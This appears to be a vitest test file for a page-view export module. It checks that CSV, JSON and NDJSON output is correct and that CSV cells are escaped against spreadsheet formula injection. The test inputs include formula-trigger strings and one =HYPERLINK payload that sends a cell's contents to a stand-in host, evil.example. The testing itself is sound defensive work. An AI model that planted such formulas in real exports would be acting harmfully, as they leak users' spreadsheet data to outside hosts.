import { stringify } from 'csv-stringify/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { ViewRow } from '../../../../src/docs-service/schema.ts'
import { type ExportRow, FORMATS } from '../../../../src/page-views/file/formats.ts'
import { untrustedText } from '../../../../src/untrusted/text.ts'

const HEADER = { dateFrom: '2026-08-01', dateTo: '2026-08-08', totals: { human: 3, ai: 2, total: 5 } }
const BEGINNING = { ...HEADER, isCompared: false }

function row(path: string, human = 1, ai = 2): ViewRow {
  return { path: untrustedText(path), human, ai, total: human + ai }
}

function write(extension: keyof typeof FORMATS, pages: ExportRow[][], header = BEGINNING): string {
  const format = FORMATS[extension]
  let isFirst = true
  const parts = pages.map((rows) => {
    const text = format.rows(rows, isFirst)
    isFirst &&= rows.length === 0
    return text
  })
  return format.begin(header) + parts.join('') + format.end()
}

test('CSV: a header and lines that end in CRLF', () => {
  expect(write('.csv', [[row('/a')], [], [row('/b', 0.5, 0)]])).toBe(
    'path,human,ai,total\r\n/a,1,2,3\r\n/b,0.5,0,0.5\r\n',
  )
  expect(write('.csv', [[]])).toBe('path,human,ai,total\r\n')
})

test.each([
  ['/a,b', '"/a,b"'],
  ['/say "hi"', '"/say ""hi"""'],
  ['/a\nb', '"/a\nb"'],
  ['/a\rb', '"/a\rb"'],
  ['/größe/😀', '/größe/😀'],
  ['', ''],
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://evil.example?"&A1,"x")', `"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', `"'\t=1"`],
  ['\r=1', `"'\r=1"`],
  ['\n=1', `"'\n=1"`],
  [' =1', "' =1"],
  ['\u200b=1', "'\u200b=1"],
  ['\ufeff=1', "'\ufeff=1"],
  ['＝1', "'＝1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠1', "'＠1"],
  ['/a;=1', '"/a;=1"'],
  ['/a\t=1', '"/a\t=1"'],
])('CSV: the path %j is written as %j', (path, cell) => {
  expect(write('.csv', [[row(path)]])).toBe(`path,human,ai,total\r\n${cell},1,2,3\r\n`)
})

test('CSV: any path is read back as one cell that no spreadsheet runs', () => {
  const tricky = fc.string({ unit: fc.constantFrom(...'a=+-@,"\'\r\n\t＝ ') })
  fc.assert(
    fc.property(fc.array(fc.oneof(fc.string({ unit: 'binary' }), tricky)), (paths) => {
      const [, ...records] = parseCsv(write('.csv', [paths.map((path) => row(path))]))
      expect(records).toHaveLength(paths.length)
      records.forEach((record, index) => {
        expect(record).toEqual([expect.anything(), '1', '2', '3'])
        expect(record[0]).toMatch(/^(?:[^=+\-@\t\r\n＝＋－＠]|$)/u)
        expect([paths[index], `'${paths[index]}`]).toContain(record[0])
      })
    }),
  )
})

test.each([',', ';', '\t'])(
  'CSV: no cell is one that a spreadsheet runs where %j divides cells',
  (separator) => {
    const tricky = fc.string({ unit: fc.constantFrom(...'/a=+@"; \t,\n') })
    fc.assert(
      fc.property(tricky, (path) => {
        const [, ...lines] = splitAsSpreadsheet(write('.csv', [[row(`/${path}`)]]), separator)
        for (const cell of lines.flat()) expect(cell).toMatch(/^(?!\s*[=+@])/u)
      }),
    )
  },
)

test('CSV: the short cut for plain paths writes what the library would', () => {
  const paths = fc
    .string({ unit: fc.constantFrom(...'/abz09_-.~%', ',', '"', ' ', '=') })
    .map((path) => `/${path}`)
  fc.assert(
    fc.property(paths, (path) => {
      const byLibrary = stringify([[path, 1, 2, 3]], { record_delimiter: '\r\n', escape_formulas: true })
      expect(FORMATS['.csv'].rows([row(path)], true)).toBe(byLibrary)
    }),
  )
})

test('JSON: one object with dates, totals and views', () => {
  const json = JSON.parse(write('.json', [[row('/a')], [row('/b'), row('/c')]]))
  expect(Object.keys(json)).toEqual(['dateFrom', 'dateTo', 'totals', 'views'])
  expect(json).toEqual({
    ...HEADER,
    views: ['/a', '/b', '/c'].map((path) => ({ path, human: 1, ai: 2, total: 3 })),
  })
})

test('JSON: an export may have no rows, and no beginning', () => {
  const { dateFrom: _, ...header } = HEADER
  const text =
    FORMATS['.json'].begin({ ...header, isCompared: false }) +
    FORMATS['.json'].rows([], true) +
    FORMATS['.json'].end()
  expect(JSON.parse(text)).toEqual({ dateFrom: null, ...header, views: [] })
})

test('JSON and NDJSON: any rows in any split into pages are read back', () => {
  const rows = fc.array(
    fc.record({
      path: fc.string({ unit: 'binary' }).map((text) => untrustedText(text.toWellFormed())),
      human: fc.nat(),
      ai: fc.double({ min: 0, noNaN: true, noDefaultInfinity: true }).map((number) => number + 0),
      total: fc.maxSafeNat(),
    }),
  )
  fc.assert(
    fc.property(fc.array(rows), (pages) => {
      expect(JSON.parse(write('.json', pages)).views).toEqual(pages.flat())
      const lines = write('.ndjson', pages).split('\n')
      expect(lines.pop()).toBe('')
      expect(lines.map((line) => JSON.parse(line))).toEqual(pages.flat())
    }),
  )
})

test.each<[keyof typeof FORMATS, string]>([
  ['.csv', "path,human,ai,total,previous,change\r\n/a,1,2,3,10,-7\r\n'=1,1,2,3,0,3\r\n"],
  [
    '.ndjson',
    '{"path":"/a","human":1,"ai":2,"total":3,"previous":10,"change":-7}\n{"path":"=1","human":1,"ai":2,"total":3,"previous":0,"change":3}\n',
  ],
])('%s: a comparison adds two columns at the end', (extension, text) => {
  const rows = [
    { ...row('/a'), previous: 10, change: -7 },
    { ...row('=1'), previous: 0, change: 3 },
  ]
  expect(write(extension, [rows], { ...HEADER, isCompared: true })).toBe(text)
})

/** A reader of RFC 4180, written from its grammar. */
function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  const cell = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/y
  while (cell.lastIndex < text.length) {
    const match = cell.exec(text)
    if (match === null) throw new Error(`No CSV: ${JSON.stringify(text)}`)
    const [, content = '', end] = match
    record.push(content.startsWith('"') ? content.slice(1, -1).replaceAll('""', '"') : content)
    if (end === '\r\n') {
      records.push(record)
      record = []
    }
  }
  return records
}

/** Quotes count where a cell begins; after the closing one the rest of the cell is taken as it is. */
function splitAsSpreadsheet(text: string, separator: string): string[][] {
  const lines: string[][] = [['']]
  const token = /(?<=^|[\r\n]|SEPARATOR)"((?:[^"]|"")*)"|SEPARATOR|\r\n|\r|\n|[\s\S]/.source
  const tokens = new RegExp(token.replaceAll('SEPARATOR', separator), 'g')
  for (const [all, quoted] of text.matchAll(tokens)) {
    const line = lines.at(-1) ?? []
    if (all === separator) line.push('')
    else if (/^[\r\n]+$/.test(all)) lines.push([''])
    else line[line.length - 1] += quoted?.replaceAll('""', '"') ?? all
  }
  return lines
}
